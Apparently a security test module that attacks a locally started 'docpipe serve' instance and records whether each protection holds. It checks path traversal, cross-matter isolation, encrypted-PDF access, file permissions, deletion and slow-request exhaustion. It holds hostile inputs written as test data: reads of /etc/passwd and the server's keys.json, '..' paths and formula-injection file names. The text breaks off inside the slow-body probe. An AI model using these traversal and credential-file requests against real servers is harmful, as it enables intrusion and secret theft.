"""Probes a running `docpipe serve` as an attacker would (issue 10's "Measure and report", then issue 23's
red-team findings): for each threat, what a request against the real server now gets, with the time it took.

Set-up: a fresh home under a temp dir; per-user keys made with the CLI
(`docpipe keys create --user U --matter M:ROLE --json` with DOCPIPE_HOME=HOME): alice deal-x:write,
bob deal-y:write, carol deal-x:read, dana deal-x:admin. The server is started as users start it,
`python -m docpipe serve --preset test --home HOME --port N --engine echo --log-level info` (workbench on, at /ui),
on 127.0.0.1, with GRADIO_TEMP_DIR inside the temp dir so Gradio's cache can be inspected. The CLI does not expose
the header and body read timeouts (ServeOptions.header_timeout_s = 10 s, body_timeout_s = 30 s then at least
16 KB/s) nor limit_concurrency (256), so the probes run against those defaults and report the time measured
until the server cut the connection. Three more servers: `--host 0.0.0.0` in a home without keys (must refuse to
start), a token-less loopback server with DOCPIPE_METRICS_TOKEN (the DNS-rebinding / cross-site target, and
/metrics behind its token), and a token-less one with a store key (23.at-rest). Every server runs in its own
process group and is killed in a `finally`.

Probes (numbered as in the briefs; run order differs only in that issue 23's come after 7, and deleting matter
deal-x comes last):
1 workbench path hole, 2 isolation between matters, 3 encrypted PDFs, 4 modes at rest, 5 deletion,
6 exhaustion (slow body, half header, 300 idle connections, wrong type, JSON over the limit), 7 defaults
(non-loopback bind, Host allow-list, cross-site Origin, /metrics), 8 faults (lone surrogate, what the server log
and the access log hold, `docpipe audit --verify`, revocation).

Issue 23 (run before probe 8, whose search of the server log then covers them, except 23.4 and 23.at-rest):
23.1 an encrypted PDF alice stored as "Project-Falcon-merger-Acme-target.pdf", uploaded by bob without and with a
wrong password and added to a deal-y collection: every message names bob's file; 23.2 bob's workbench ingest of
bytes alice uploaded as a-formula.pdf shows bob's name; 23.3 a review job over "=cmd.pdf" asking "=HYPERLINK(...",
its XLSX read back with openpyxl (no formula cell) and its CSV parsed (no formula-led field without an
apostrophe); 23.4 copies of the live audit/ and access/ in scratch homes, untouched, cut by 1 and 5 lines, a line
edited with the later hashes and the checkpoint's count/head redone, every MAC stripped with the checkpoint
deleted (and that with the store's audit key deleted too, verified without a key and with a copy kept apart):
`docpipe audit --verify` on each; 23.5 the plain SHA-256 of "What is the governing law?" is not in the
log and `docpipe audit --question` finds it with the key; 23.6 a write key deleting the matter is a 'denied'
line; 23.at-rest a token-less server with DOCPIPE_STORE_KEY_FILE (a key from `docpipe keys store-key`) holds no
phrase of the texts, questions or PDF bytes in any file, against the main (keyless) server's home.

Each record: probe, threat, request, outcome (HTTP status or what happened), seconds, observation, expected,
as_expected. A record whose as_expected is false is a protection that did not hold: its test fails, the benchmark says so.

`run_all` runs them all against one set of servers and returns the records by probe group: tests/security/
test_probes.py asserts every record (`pytest -m security`, part of `make test`); benchmarks/security_probes.py
writes them as the results table (benchmarks/results/security_probes.json and docs/benchmarks/).
"""

from __future__ import annotations

import contextlib
import hashlib
import html
import io
import json
import os
import re
import secrets
import shutil
import signal
import socket
import stat
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx

from .cli import run_cli
from .net import free_port
from .server import Served, server_env, serving

ROOT = Path(__file__).resolve().parents[2]
SAMPLE = ROOT / "samples" / "master_services_agreement.pdf"
ENCRYPTED = ROOT.parent / "shared" / "eval" / "bad-pdfs" / "pypdf-r2-user-password.pdf"
ENCRYPTED_PASSWORD = "asdfzxcv"
ENCRYPTED_PHRASE = b"encryption test"  # the encrypted PDF's text ("pdf encryption test")
QUESTION = "What is the notice period for termination for convenience?"
CALL_TIMEOUT_S = 20  # a workbench call naming a foreign path must be refused well within this
IDLE_CONNECTIONS = 300
# Markers that must never reach the server's stdout/stderr log (questions, file names, query strings).
MARK = secrets.token_hex(4)
MARK_NAME = f"nightingale-merger-{MARK}.pdf"
MARK_QUESTION = f"Is there an exclusivity period with Kestrel{MARK} Holdings?"
MARK_QUERY = f"trace{MARK}"


# -- records ------------------------------------------------------------------------------------------------
@dataclass
class Probe:
    probe: str
    threat: str
    request: str
    outcome: str = ""
    seconds: float | None = None
    observation: str = ""
    expected: str = ""
    as_expected: bool | None = None
    details: dict[str, Any] = field(default_factory=dict)


RECORDS: list[Probe] = []


def record(probe: str, threat: str, request: str, *, expected: str, run: Callable[[Probe], None]) -> Probe:
    """Runs `run` on a new record, timing it; an exception is the outcome (and not as expected)."""
    rec = Probe(probe, threat, request, expected=expected)
    started = time.monotonic()
    try:
        run(rec)
    except Exception as exc:  # noqa: BLE001 - one failed probe must not cost the others
        rec.outcome = f"probe error: {type(exc).__name__}"
        rec.observation = (rec.observation + " " if rec.observation else "") + str(exc)[:300]
        rec.as_expected = False
    if rec.seconds is None:
        rec.seconds = round(time.monotonic() - started, 3)
    RECORDS.append(rec)
    flag = "ok " if rec.as_expected else "!! "
    print(
        f"{flag}[{rec.probe}] {rec.threat}: {rec.request} -> {rec.outcome} ({rec.seconds:.2f} s) {rec.observation}",
        file=sys.stderr,
        flush=True,
    )
    return rec


def error_type(response: httpx.Response) -> str:
    try:
        return str(response.json().get("error", {}).get("type", ""))
    except (ValueError, AttributeError):
        return ""


def status(response: httpx.Response) -> str:
    kind = error_type(response)
    return f"{response.status_code} {kind}".strip()


def text_of(fragment: str) -> str:
    return re.sub(r"\s+", " ", html.unescape(re.sub(r"<[^>]+>", " ", fragment))).strip()


# -- servers -------------------------------------------------------------------------------------------------
def new_key(home: Path, user: str, grant: str) -> tuple[str, str]:
    """Returns a new key of `user` with `grant` and its id, made with `docpipe keys create`."""
    done = run_cli(home, "keys", "create", "--user", user, "--matter", grant, "--json", timeout=120)
    if done.returncode != 0:
        raise RuntimeError(f"docpipe keys create failed: {done.stderr}")
    data = json.loads(done.stdout)
    return data["key"], data["key_id"]


class Api:
    """One caller of the REST API (a key, optionally a matter)."""

    def __init__(self, server: Served, key: str | None, matter: str | None = None) -> None:
        self.url = server.url
        self.headers = {"Authorization": f"Bearer {key}"} if key else {}
        if matter:
            self.headers["X-Matter"] = matter

    def get(self, path: str, headers: dict[str, str] | None = None) -> httpx.Response:
        return httpx.get(self.url + path, headers={**self.headers, **(headers or {})}, timeout=60)

    def delete(self, path: str) -> httpx.Response:
        return httpx.delete(self.url + path, headers=self.headers, timeout=60)

    def post(self, path: str, **kwargs: Any) -> httpx.Response:
        return httpx.post(self.url + path, headers=self.headers, timeout=180, **kwargs)

    def upload(
        self, data: bytes, name: str, password: str | None = None, params: dict[str, str] | None = None
    ) -> httpx.Response:
        headers = {**self.headers, "Content-Type": "application/pdf"}
        if password:
            headers["X-Document-Password"] = password
        return httpx.post(
            f"{self.url}/v1/documents",
            params={"name": name, **(params or {})},
            content=data,
            headers=headers,
            timeout=180,
        )

    def ask(self, doc_id: str, body: dict[str, Any], params: dict[str, str] | None = None) -> httpx.Response:
        return httpx.post(
            f"{self.url}/v1/documents/{doc_id}/ask", json=body, params=params, headers=self.headers, timeout=60
        )


# -- files ---------------------------------------------------------------------------------------------------
def unique_pdf(phrase: str) -> bytes:
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer, pageCompression=0)
    pdf.drawString(60, 740, "1. Term. This Agreement lasts five (5) years from the Effective Date of signature.")
    pdf.drawString(60, 700, f"2. Governing Law. This Agreement is governed by the laws of {phrase}.")
    pdf.drawString(60, 660, "3. Notice. Either Party may terminate upon ninety (90) days' written notice.")
    pdf.save()
    return buffer.getvalue()


def files_with_content(folder: Path) -> set[str]:
    if not folder.is_dir():
        return set()
    return {
        str(p.relative_to(folder))
        for p in folder.rglob("*")
        if p.is_file() and not p.is_symlink() and p.stat().st_size > 0
    }


def stored_documents(home: Path) -> set[str]:
    return {p.name for p in (home / "docs").glob("*")} if (home / "docs").is_dir() else set()


def files_mentioning(folders: list[Path], needles: list[bytes]) -> list[str]:
    """Returns the files under `folders` whose path or bytes contain any needle."""
    hits = []
    for folder in folders:
        if not folder.is_dir():
            continue
        for path in folder.rglob("*"):
            if not path.is_file() or path.is_symlink():
                continue
            name = str(path).encode()
            try:
                data = path.read_bytes()
            except OSError:
                continue
            if any(n in name or n in data for n in needles):
                hits.append(str(path))
    return sorted(hits)


# -- probe 1: the workbench path hole ---------------------------------------------------------------------
def load_session(client: httpx.Client, base: str, matter: str = "deal-x") -> str:
    """Returns a Gradio session hash whose page-load event has run, as a browser's has: the workbench's
    on_load fills the Matter dropdown with the user's matters, so a call naming `matter` passes Gradio's
    choice check and reaches the file checks (a bare API call has no choices and fails there instead)."""
    config = client.get(f"{base}/config", timeout=10).json()
    loads = [d for d in config["dependencies"] if any(t[1] == "load" for t in d.get("targets", []))]
    # The workbench's own page-load event fills the Matter list and the pickers; others show a control or two.
    load = max(loads, key=lambda d: len(d.get("outputs", [])))
    session = secrets.token_hex(6)
    joined = client.post(
        f"{base}/gradio_api/queue/join",
        timeout=10,
        json={"data": [], "fn_index": load["id"], "session_hash": session, "event_data": None, "trigger_id": None},
    )
    joined.raise_for_status()
    with client.stream(
        "GET", f"{base}/gradio_api/queue/data", params={"session_hash": session}, timeout=CALL_TIMEOUT_S
    ) as stream:
        for line in stream.iter_lines():
            if line.startswith("data:") and json.loads(line[5:]).get("msg") == "process_completed":
                output = json.loads(line[5:]).get("output", {})
                if not json.dumps(output).count(matter):
                    raise RuntimeError(f"the page-load event did not offer matter {matter}: {str(output)[:200]}")
                return session
    raise RuntimeError("the page-load event did not complete")


def call_ingest(
    client: httpx.Client,
    base: str,
    path: str,
    matter: str | None,
    session: str | None = None,
    name: str = "contract.pdf",
) -> tuple[str, Any]:
    """Calls the workbench's ingest endpoint naming `path` as the uploaded file (files, password, matter);
    `name` is the file's name as the browser reports it (FileData.orig_name)."""
    payload = {
        "data": [[{"path": path, "orig_name": name, "meta": {"_type": "gradio.FileData"}}], "", matter],
        "session_hash": session,
    }
    response = client.post(f"{base}/gradio_api/call/ingest", json=payload, timeout=10)
    if response.status_code != 200:
        return f"http_{response.status_code}", response.text[:200]
    event_id = response.json()["event_id"]
    deadline = time.monotonic() + CALL_TIMEOUT_S
    event = None
    try:
        with client.stream("GET", f"{base}/gradio_api/call/ingest/{event_id}", timeout=CALL_TIMEOUT_S) as stream:
            for line in stream.iter_lines():
                if line.startswith("event:"):
                    event = line.partition(":")[2].strip()
                elif line.startswith("data:") and event in ("complete", "error"):
                    return event, json.loads(line.partition(":")[2])
                if time.monotonic() > deadline:
                    break
    except httpx.TimeoutException:
        pass
    return "timeout", None


def probe_workbench(server: Served, keys: dict[str, str], uploads: Path, tmp: Path) -> None:
    base = f"{server.url}/ui"
    outside = tmp / "outside"
    outside.mkdir(exist_ok=True)
    shutil.copyfile(SAMPLE, outside / "contract.pdf")
    threat = "workbench path hole"

    def anonymous(rec: Probe) -> None:
        with httpx.Client() as client:
            started = time.monotonic()
            kind, data = call_ingest(client, base, "/etc/passwd", "deal-x")
            rec.seconds = round(time.monotonic() - started, 3)
        rec.outcome = kind
        rec.as_expected = kind in ("http_401", "http_403")
        rec.observation = f"no login: refused before any handler ({str(data)[:80]})"

    record(
        "1", threat, "POST /ui/gradio_api/call/ingest naming /etc/passwd, no login", expected="401/403", run=anonymous
    )

    def anonymous_upload(rec: Probe) -> None:
        before = files_with_content(uploads)
        response = httpx.post(f"{base}/gradio_api/upload", files={"files": ("x.pdf", SAMPLE.read_bytes())}, timeout=30)
        gained = files_with_content(uploads) - before
        rec.outcome = f"{response.status_code}"
        rec.as_expected = response.status_code in (401, 403) and not gained
        rec.observation = f"Gradio's cache gained {len(gained)} file(s) (an anonymous client cannot fill its disk)"

    record(
        "1",
        threat,
        "POST /ui/gradio_api/upload (a PDF into Gradio's cache), no login",
        expected="401/403",
        run=anonymous_upload,
    )

    client = httpx.Client()

    def login(rec: Probe) -> None:
        wrong = client.post(f"{base}/login", data={"username": "bob", "password": keys["alice"]}, timeout=10)
        right = client.post(f"{base}/login", data={"username": "alice", "password": keys["alice"]}, timeout=10)
        rec.outcome = f"{right.status_code}"
        rec.as_expected = right.status_code == 200 and wrong.status_code in (400, 401) and bool(client.cookies)
        rec.observation = (
            f"alice's key logs alice in (cookie set: {bool(client.cookies)}); the same key as "
            f"user bob gets {wrong.status_code}"
        )

    record(
        "1",
        threat,
        "POST /ui/login username=alice password=<alice's API key>",
        expected="200 + session cookie; another user's name with the key refused",
        run=login,
    )
    session = load_session(client, base)
    # A PDF inside Gradio's upload folder that its upload route never stored: Gradio's own check passes it,
    # the workbench's handler must refuse it.
    planted = uploads / "planted" / "contract.pdf"
    planted.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(SAMPLE, planted)

    cases = [
        ("/etc/passwd", "/etc/passwd"),
        ("samples/master_services_agreement.pdf (absolute, outside the upload folder)", str(SAMPLE)),
        ("`..` path: <upload folder>/../outside/contract.pdf", f"{uploads}/../outside/contract.pdf"),
        ("/dev/zero", "/dev/zero"),
        ("a PDF planted inside Gradio's upload folder (not stored by its upload route)", str(planted)),
    ]
    for label, path in cases:

        def attack(rec: Probe, path: str = path) -> None:
            before_docs, before_cache = stored_documents(server.home), files_with_content(uploads)
            listed_before = Api(server, keys["alice"]).get("/v1/documents").json()["documents"]
            log_at = len(server.log.read_bytes())
            started = time.monotonic()
            kind, data = call_ingest(client, base, path, "deal-x", session)
            rec.seconds = round(time.monotonic() - started, 3)
            time.sleep(0.3)
            new_log = server.log.read_bytes()[log_at:].decode(errors="replace")
            by_gradio = re.search(r"Cannot move .{0,300}?because [^.\n]*", new_log)
            gained_docs = stored_documents(server.home) - before_docs
            gained_cache = files_with_content(uploads) - before_cache
            listed_after = Api(server, keys["alice"]).get("/v1/documents").json()["documents"]
            message = text_of(data[0]) if kind == "complete" and data else str(data)[:160]
            if by_gradio:
                message = f"Gradio's upload-folder check (server log): {by_gradio.group(0)[:160]}"
            elif kind == "complete":
                message = f"the workbench's handler: {message}"
            refused = (
                (kind == "complete" and "dp-ok" not in (data[0] if data else ""))
                or kind == "error"
                or kind.startswith("http_4")
            )
            rec.outcome = f"refused ({kind})" if refused else f"ACCEPTED ({kind})"
            rec.as_expected = (
                refused
                and not gained_docs
                and not gained_cache
                and len(listed_after) == len(listed_before)
                and rec.seconds < CALL_TIMEOUT_S
                and server.alive()
            )
            rec.observation = (
                f'"{message[:150]}"; store gained {len(gained_docs)} document(s), Gradio\'s cache '
                f"gained {len(gained_cache)} file(s); server alive: {server.alive()}"
            )
            rec.details = {
                "path": path,
                "event": kind,
                "message": message,
                "gained_documents": sorted(gained_docs),
                "gained_cache_files": sorted(gained_cache),
            }

        record(
            "1",
            threat,
            f"logged in as alice (session loaded, matter deal-x), call/ingest naming {label}",
            expected="refused at once; no document stored; nothing copied into Gradio's cache",
            run=attack,
        )

    def file_route(rec: Probe) -> None:
        results = {}
        for label, path in (
            ("/etc/passwd", "/etc/passwd"),
            ("<home>/access/keys.json", str(server.home / "access" / "keys.json")),
        ):
            response = client.get(f"{base}/gradio_api/file={path}", timeout=10)
            results[label] = (response.status_code, "root:" in response.text or "sha256" in response.text)
        rec.outcome = ", ".join(f"{k}: {v[0]}" for k, v in results.items())
        rec.as_expected = all(code in (403, 404) and not leaked for code, leaked in results.values())
        rec.observation = "no file content returned" if rec.as_expected else f"CONTENT LEAKED: {results}"

    record(
        "1",
        threat,
        "logged in, GET /ui/gradio_api/file=/etc/passwd and =<home>/access/keys.json",
        expected="403/404, no content",
        run=file_route,
    )

    def control(rec: Probe) -> None:
        before_docs = stored_documents(server.home)
        with SAMPLE.open("rb") as handle:
            up = client.post(
                f"{base}/gradio_api/upload", files={"files": ("workbench-control.pdf", handle)}, timeout=30
            )
        if up.status_code != 200:
            rec.outcome = f"upload {up.status_code}"
            rec.as_expected = False
            rec.observation = up.text[:200]
            return
        (path,) = up.json()
        kind, data = call_ingest(client, base, path, "deal-x", session)
        message = text_of(data[0]) if kind == "complete" and data else str(data)[:160]
        ingested = kind == "complete" and "15 pages" in message
        rec.outcome = "ingested" if ingested else f"not ingested ({kind})"
        copy_left = Path(path).exists()
        rec.as_expected = ingested and not copy_left
        rec.observation = (
            f'a real upload through Gradio\'s upload route is ingested ("{message[:80]}"); '
            f"Gradio's copy left afterwards: {copy_left}; store documents "
            f"{len(before_docs)} -> {len(stored_documents(server.home))}"
        )

    record(
        "1",
        threat,
        "control: logged in, POST /ui/gradio_api/upload the sample, then call/ingest naming it",
        expected="ingested (the refusals above come from the path check, not broken routing)",
        run=control,
    )
    shutil.rmtree(planted.parent, ignore_errors=True)  # this script's plant, not the server's: out of probe 4
    client.close()


# -- probe 2: isolation ------------------------------------------------------------------------------------
def probe_isolation(server: Served, keys: dict[str, str], state: dict[str, Any]) -> None:
    alice, bob = Api(server, keys["alice"]), Api(server, keys["bob"])
    threat = "isolation between matters"
    data = SAMPLE.read_bytes()
    up = alice.upload(data, "Falcon MSA (privileged).pdf")
    up.raise_for_status()
    doc_id = up.json()["id"]
    asked = alice.ask(doc_id, {"question": QUESTION})
    asked.raise_for_status()
    answer = asked.json()["answers"][0]
    state.update(sample_id=doc_id, alice_answer=answer)

    def bob_reads_answer(rec: Probe) -> None:
        response = bob.get(f"/v1/answers/{answer['id']}")
        rec.outcome = status(response)
        rec.as_expected = response.status_code == 404 and QUESTION not in response.text
        rec.observation = "alice's answer id is unknown in bob's matter deal-y"

    record("2", threat, "bob (deal-y) GET /v1/answers/<alice's answer id>", expected="404", run=bob_reads_answer)

    def bob_asks(rec: Probe) -> None:
        response = bob.ask(doc_id, {"question": QUESTION})
        rec.outcome = status(response)
        rec.as_expected = response.status_code == 404
        rec.observation = "the document id is unknown in deal-y"

    record("2", threat, "bob POST /v1/documents/<alice's doc id>/ask", expected="404", run=bob_asks)

    def bob_lists(rec: Probe) -> None:
        response = bob.get("/v1/documents")
        docs = response.json().get("documents")
        rec.outcome = f"{response.status_code}, {len(docs or [])} documents"
        rec.as_expected = response.status_code == 200 and docs == []
        rec.observation = "bob's listing does not show alice's upload"

    record("2", threat, "bob GET /v1/documents", expected="200, empty list", run=bob_lists)

    def bob_names_deal_x(rec: Probe) -> None:
        response = Api(server, keys["bob"], "deal-x").get("/v1/documents")
        rec.outcome = status(response)
        rec.as_expected = response.status_code in (403, 404) and "Falcon" not in response.text
        rec.observation = "a matter bob's key does not hold is not reachable by naming it"

    record("2", threat, "bob GET /v1/documents with X-Matter: deal-x", expected="403/404", run=bob_names_deal_x)

    def same_bytes(rec: Probe) -> None:
        mine = bob.upload(data, "contract.pdf")
        listed = bob.get("/v1/documents").json()["documents"]
        names = [(d["name"], d["added_by"]) for d in listed]
        rec.outcome = f"{mine.status_code}; listing {names}"
        rec.as_expected = (
            mine.status_code == 200
            and mine.json()["id"] == doc_id
            and mine.json().get("name", "contract.pdf") == "contract.pdf"
            and names == [("contract.pdf", "bob")]
            and "Falcon" not in json.dumps(listed)
        )
        rec.observation = "same SHA-256 as alice's document, shown under bob's own name only"

    record(
        "2",
        threat,
        "bob uploads the same bytes as contract.pdf, then GET /v1/documents",
        expected="his name, added_by bob, not 'Falcon MSA (privileged).pdf'",
        run=same_bytes,
    )

    def cache_not_shared(rec: Probe) -> None:
        theirs = bob.ask(doc_id, {"question": QUESTION}).json()["answers"][0]
        first = alice.get(f"/v1/answers/{answer['id']}").json()
        try:
            gap = f"{float(theirs['created']) - float(first['created']):+.3f} s"
        except (KeyError, TypeError, ValueError):
            gap = "?"
        rec.outcome = (
            f"created differ ({gap}: bob's minus alice's)"
            if theirs.get("created") != first.get("created")
            else "SAME created time"
        )
        rec.as_expected = theirs.get("created") != first.get("created") and "Falcon" not in json.dumps(theirs)
        rec.observation = (
            "bob's answer is computed for his matter, not alice's cached answer with her time"
            if rec.as_expected
            else "BOB GOT ALICE'S CACHED ANSWER"
        )
        rec.details = {
            "bob": {k: theirs.get(k) for k in ("created", "cached")},
            "alice": {k: first.get(k) for k in ("created", "cached")},
        }

    record(
        "2",
        threat,
        "bob asks the same question about his copy; compare 'created' with alice's answer",
        expected="different created times (answer cache not shared across matters)",
        run=cache_not_shared,
    )


# -- probe 3: encrypted PDFs -------------------------------------------------------------------------------
def probe_encrypted(server: Served, keys: dict[str, str], state: dict[str, Any]) -> None:
    alice, carol = Api(server, keys["alice"]), Api(server, keys["carol"])
    threat = "encrypted PDF text"
    if not ENCRYPTED.is_file():
        record(
            "3",
            threat,
            "upload the encrypted PDF",
            expected="-",
            run=lambda rec: setattr(rec, "outcome", f"skipped: {ENCRYPTED} missing"),
        )
        return
    data = ENCRYPTED.read_bytes()
    holder: dict[str, Any] = {}

    def alice_uploads(rec: Probe) -> None:
        no_password = alice.upload(data, "secret.pdf")
        up = alice.upload(data, "secret.pdf", password=ENCRYPTED_PASSWORD)
        holder["doc"] = up.json()
        asked = alice.ask(up.json()["id"], {"question": "Who are the parties?"})
        holder["answer"] = asked.json()["answers"][0]
        rec.outcome = f"upload {status(up)} (encrypted={up.json().get('encrypted')}); ask {status(asked)}"
        rec.as_expected = (
            up.status_code == 200
            and up.json().get("encrypted") is True
            and asked.status_code == 200
            and no_password.status_code == 422
        )
        rec.observation = (
            f"without the password the upload gets {status(no_password)}; with it, alice's key is "
            "granted the text and her ask needs no password"
        )

    record(
        "3",
        threat,
        "alice POST /v1/documents (X-Document-Password), then asks",
        expected="200 encrypted=true; ask 200",
        run=alice_uploads,
    )
    if "answer" not in holder:
        return
    state["encrypted_id"] = holder["doc"]["id"]
    answer_id = holder["answer"]["id"]
    for label, headers, want in (
        ("no password", {}, 422),
        ("a wrong password", {"X-Document-Password": "guess"}, 403),
        ("the right password", {"X-Document-Password": ENCRYPTED_PASSWORD}, 200),
    ):

        def carol_reads(rec: Probe, headers: dict[str, str] = headers, want: int = want) -> None:
            response = carol.get(f"/v1/answers/{answer_id}", headers=headers)
            rec.outcome = status(response)
            rec.as_expected = response.status_code == want
            text = response.json().get("text", "") if response.status_code == 200 else ""
            rec.observation = (
                f"answer returned ({len(text)} characters of text)"
                if response.status_code == 200
                else f"no answer text in the reply ({response.json().get('error', {}).get('message', '')[:90]})"
            )

        record(
            "3",
            threat,
            f"carol (deal-x:read) GET /v1/answers/<alice's answer> with {label}",
            expected=str(want),
            run=carol_reads,
        )

    def carol_asks(rec: Probe) -> None:
        response = carol.ask(holder["doc"]["id"], {"question": "Who are the parties?"})
        rec.outcome = status(response)
        rec.as_expected = response.status_code == 422
        rec.observation = "a new question about the encrypted PDF needs its password too"

    record("3", threat, "carol POST /v1/documents/<encrypted id>/ask without password", expected="422", run=carol_asks)


# -- probe 4: at rest --------------------------------------------------------------------------------------
def probe_at_rest(server: Served, state: dict[str, Any], uploads: Path) -> None:
    home = server.home
    threat = "plain text at rest"

    def mode(path: Path) -> str:
        return oct(stat.S_IMODE(path.stat().st_mode)) if path.exists() else "missing"

    def modes(rec: Probe) -> None:
        doc_id = state.get("sample_id", "")
        doc_dir = home / "docs" / doc_id
        named: dict[str, str] = {"<home>": mode(home), "docs/": mode(home / "docs"), "docs/<id>/": mode(doc_dir)}
        for p in sorted(doc_dir.glob("*")):
            named[f"docs/<id>/{p.name}"] = mode(p)
        for p in sorted(home.rglob("*.sqlite*")):
            named[str(p.relative_to(home))] = mode(p)
        serve_files = sorted(p for p in (home / "serve").rglob("*") if p.is_file()) if (home / "serve").is_dir() else []
        named["serve/"] = mode(home / "serve")
        named[f"serve/ answer and report files ({len(serve_files)})"] = ",".join(sorted({mode(p) for p in serve_files}))
        named["audit/access.log"] = mode(home / "audit" / "access.log")
        named["access/keys.json"] = mode(home / "access" / "keys.json")
        named["Gradio cache (GRADIO_TEMP_DIR)"] = mode(uploads)

        # Everything under the home (and Gradio's cache) that group or others may read, write or enter.
        def open_paths(root: Path, label: str) -> list[tuple[str, bool]]:
            if not root.exists():
                return []
            return [
                (
                    f"{label}{p.relative_to(root)} {mode(p)}"
                    + (" (empty)" if p.is_file() and not p.stat().st_size else ""),
                    p.is_dir() or p.stat().st_size > 0,
                )
                for p in [root, *root.rglob("*")]
                if not p.is_symlink() and stat.S_IMODE(p.stat().st_mode) & 0o077
            ]

        loose = open_paths(home, "") + open_paths(uploads, "gradio:")
        serious = [name for name, has_content in loose if has_content]
        total = sum(1 for _ in home.rglob("*")) + (sum(1 for _ in uploads.rglob("*")) if uploads.exists() else 0)
        rec.outcome = f"{len(serious)} of {total} paths with content or folders open to group/others" + (
            f"; {len(loose) - len(serious)} empty file(s): " + ", ".join(n for n, c in loose if not c)
            if len(loose) > len(serious)
            else ""
        )
        rec.as_expected = not serious
        rec.observation = "; ".join(f"{k} {v}" for k, v in named.items())
        rec.details = {
            "modes": named,
            "group_or_other_access": [n for n, _ in loose][:50],
            "gradio_dir_created_by": state.get("gradio_dir_created_by"),
        }

    record(
        "4",
        threat,
        "stat every path under the home (and Gradio's cache)",
        expected="folders 0700, files 0600, nothing for group/others",
        run=modes,
    )

    def encrypted_plaintext(rec: Probe) -> None:
        hits = files_mentioning([home], [ENCRYPTED_PHRASE])
        rec.outcome = f"phrase of the encrypted PDF in {len(hits)} file(s)"
        rec.as_expected = True  # documented: text is kept in plain 0600 files; use an encrypted volume
        rec.observation = (
            "documented limitation (README Limitations): derived text of an encrypted PDF is stored "
            "unencrypted, 0600, gated by the API only; files: "
            + ", ".join(str(Path(h).relative_to(home)) for h in hits[:6])
        )
        rec.details = {"files": [str(Path(h).relative_to(home)) for h in hits]}

    record(
        "4",
        threat,
        "grep the home for the encrypted PDF's text",
        expected="present in 0600 files (documented: put the store on an encrypted volume)",
        run=encrypted_plaintext,
    )


# -- probe 5: deletion -------------------------------------------------------------------------------------
def probe_delete_document(server: Served, keys: dict[str, str], uploads: Path) -> None:
    alice = Api(server, keys["alice"])
    threat = "no deletion"
    phrase = f"Quillfeather{MARK} Zanzibar"
    data = unique_pdf(phrase)

    def delete(rec: Probe) -> None:
        up = alice.upload(data, "short.pdf")
        up.raise_for_status()
        doc_id = up.json()["id"]
        answer = alice.ask(doc_id, {"question": "Which law governs this agreement?"}).json()["answers"][0]
        report = httpx.post(
            f"{alice.url}/v1/documents/{doc_id}/analyze",
            headers=alice.headers,
            timeout=120,
            json={"categories": ["Governing Law"], "mode": "no_think"},
        )
        needles = [doc_id.encode(), f"Quillfeather{MARK}".encode()]
        folders = [server.home, uploads]
        before = files_mentioning(folders, needles)
        started = time.monotonic()
        gone = alice.delete(f"/v1/documents/{doc_id}")
        rec.seconds = round(time.monotonic() - started, 3)
        after = files_mentioning(folders, needles)
        audit = [h for h in after if "/audit/" in h]
        left = [h for h in after if "/audit/" not in h]
        read_again = alice.get(f"/v1/answers/{answer['id']}")
        rec.outcome = f"{status(gone)} {gone.json() if gone.status_code == 200 else ''}".strip()
        rec.as_expected = gone.status_code == 200 and not left and read_again.status_code == 404 and bool(before)
        rec.observation = (
            f"files naming the id or holding the phrase: {len(before)} before (analyze "
            f"{report.status_code}), {len(left)} after outside audit/ "
            f"({len(audit)} in audit/access.log: the append-only log keeps the id by design); "
            f"the answer id then gets {read_again.status_code}"
        )
        rec.details = {
            "before": [
                str(Path(h).relative_to(server.home)) if str(h).startswith(str(server.home)) else h for h in before
            ],
            "left": left,
            "audit": audit,
        }

    record(
        "5",
        threat,
        "alice DELETE /v1/documents/{id} (a PDF only she holds, asked and analysed)",
        expected="200; nothing of it left in the store, caches or Gradio's folder (audit log aside)",
        run=delete,
    )

    def write_key_deletes_matter(rec: Probe) -> None:
        response = alice.delete("/v1/matters/deal-x")
        rec.outcome = status(response)
        rec.as_expected = response.status_code == 403
        rec.observation = "deleting a matter needs the admin role"

    record("5", threat, "alice (deal-x:write) DELETE /v1/matters/deal-x", expected="403", run=write_key_deletes_matter)


def probe_delete_matter(server: Served, keys: dict[str, str], state: dict[str, Any]) -> None:
    dana = Api(server, keys["dana"])
    alice = Api(server, keys["alice"])

    def delete(rec: Probe) -> None:
        before = dana.get("/v1/documents").json()["documents"]
        response = dana.delete("/v1/matters/deal-x")
        after = alice.get("/v1/documents")
        enc = state.get("encrypted_id")
        enc_left = files_mentioning([server.home / "docs"], [enc.encode()]) if enc else []
        rec.outcome = f"{status(response)} {response.json() if response.status_code == 200 else ''}".strip()
        rec.as_expected = (
            response.status_code == 200
            and after.status_code == 200
            and after.json()["documents"] == []
            and not enc_left
        )
        rec.observation = (
            f"deal-x held {len(before)} documents, then {len(after.json().get('documents', []))}; "
            f"the encrypted PDF (only in deal-x) left in docs/: {len(enc_left)} files; the sample "
            "stays in the store for bob's deal-y"
        )

    record(
        "5", "no deletion", "dana (deal-x:admin) DELETE /v1/matters/deal-x", expected="200, matter emptied", run=delete
    )


# -- probe 6: exhaustion -----------------------------------------------------------------------------------
def connect(server: Served, timeout: float = 60) -> socket.socket:
    sock = socket.create_connection(("127.0.0.1", server.port), timeout=timeout)
    sock.settimeout(timeout)
    return sock


def read_until_closed(sock: socket.socket) -> bytes:
    reply = b""
    with contextlib.suppress(ConnectionResetError):
        while chunk := sock.recv(65536):
            reply += chunk
    return reply


def first_line(data: bytes) -> str:
    return data.split(b"\r\n", 1)[0].decode("latin-1", "replace") if data else "(closed, no reply)"


def probe_exhaustion(server: Served, keys: dict[str, str]) -> None:
    threat = "exhaustion"
    key = keys["alice"]

    def trickle(rec: Probe) -> None:
        bound = 120
        with connect(server) as sock:
            started = time.monotonic()
            sock.sendall(
                f"POST /v1/documents?name=t.pdf HTTP/1.1\r\nHost: 127.0.0.1:{server.port}\r\n"
                f"Authorization: Bearer {key}\r\nContent-Type: application/pdf\r\n"
                "Content-Length: 1048576\r\n\r\n%PDF-1.4\n".encode()
            )
            sock.settimeout(2)
            reply, sent = b"", 0
            while time.monotonic() - started < bound:
                try:
                    sock.sendall(b"0" * 1024)
                    sent += 1024
                    reply = sock.recv(65536)
                    break
                except TimeoutError:
                    continue
